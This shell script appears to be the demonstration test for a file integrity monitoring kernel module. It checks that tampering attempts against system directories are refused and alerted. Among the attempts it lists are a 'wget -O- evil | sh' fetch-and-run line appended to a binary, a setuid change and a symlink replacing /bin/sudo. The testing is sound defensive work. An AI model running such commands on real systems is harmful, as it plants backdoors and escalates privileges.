# SPDX-License-Identifier: GPL-2.0
# shellcheck shell=sh
#
# The demonstration: protects the system's directories, attacks them, shows what
# came of it, and that the system still works. Everything that it shows it
# checks too.
. /vm/lib-guest.sh

prompt='# ' bad='' good='' dim='' off=''
if grep -q fim.color /proc/cmdline; then
	esc=$(printf '\033')
	prompt="${esc}[1m# " bad="${esc}[31m" good="${esc}[32m" dim="${esc}[36m" off="${esc}[0m"
fi

show() {
	report "show $*"
}

# shown COLOR: lines of standard input.
shown() {
	while IFS= read -r line; do
		show "$1$line$off"
	done
}

# run COMMAND: it has to succeed.
run() {
	show "$prompt$1$off"
	if dash -c "$1" >/tmp/out 2>&1 9>&-; then
		pass "$1"
	else
		fail "$1"
	fi
	shown "$good" </tmp/out
}

# value KEY: of the alert in $alert.
value() {
	printf '%s\n' "$alert" |
		sed -n "s/.*\"$1\" *: *\"\\{0,1\\}\\([^\",}]*\\).*/\\1/p"
}

# A new line in the listener's output, within five seconds.
next_alert() {
	tries=0
	while [ "$(wc -l </run/alerts)" -le "$seen" ]; do
		tries=$((tries + 1))
		[ $tries -lt 50 ] || return 1
		usleep 100000
	done
	alert=$(sed -n "$((seen + 1))p" /run/alerts)
}

# attack COMMAND: it has to be refused, and an alert has to say so.
attack() {
	seen=$(wc -l </run/alerts)
	show "$prompt$1$off"
	if dash -c "$1" >/tmp/out 2>&1 9>&-; then
		fail "not refused: $1"
		return
	fi
	shown "$bad" </tmp/out
	check "refused with EACCES: $1" grep -q 'Permission denied' /tmp/out
	if ! next_alert; then
		fail "no alert: $1"
		return
	fi
	check "the alert blames a policy: $1" [ "$(value Action)" = Block ]
	show "$dim    alert: $(value Action) $(value Resource)" \
		"by $(value ProcessName), severity $(value Severity)," \
		"policy $(value PolicyName)$off"
	show "$dim           $(value Data)$off"
}

# Everything that could have changed, names and contents.
snapshot() {
	ls -laR /boot /usr
	find /boot /usr -type f -exec md5sum {} +
}

policy=/usr/share/fim/policies/system-binaries.yaml
snapshot >/run/before

show ''
show "A Debian kernel, $(uname -r), and a small system. FIM is loaded:"
show ''
run 'insmod /fim.ko'
run "fimctl apply -f $policy"
: >/run/alerts
fimctl watch -o json >>/run/alerts 2>/run/watch 9>&- &
sleep 1
show ''
show 'Attacks, as root:'
show ''
attack 'cd /sbin; touch file'
attack 'rm /usr/bin/hello'
attack 'mv /usr /usr2'
attack 'echo "wget -O- evil | sh" >> /usr/bin/hello'
attack 'chmod u+s /usr/bin/busybox'
attack 'ln -s /tmp/evil /bin/sudo'
attack 'mount -o bind /usr/sbin /mnt && rm /mnt/poweroff'
umount /mnt 2>/dev/null
show ''
show 'The system works as before:'
show ''
run 'hello'
run 'ls /sbin | wc -l'
run 'head -c 4 /usr/bin/busybox | tail -c 3; echo'
run 'touch /root/notes && rm /root/notes && echo written and removed'
run 'mkdir -p /etc/app.d && echo x >/etc/app.d/conf && cat /etc/app.d/conf'
snapshot >/run/after
check 'nothing has changed' cmp /run/before /run/after
show ''
show 'The last alert as a program gets it:'
show ''
tail -n 1 /run/alerts | shown "$dim"
show ''
run 'fimctl status'
exit 0
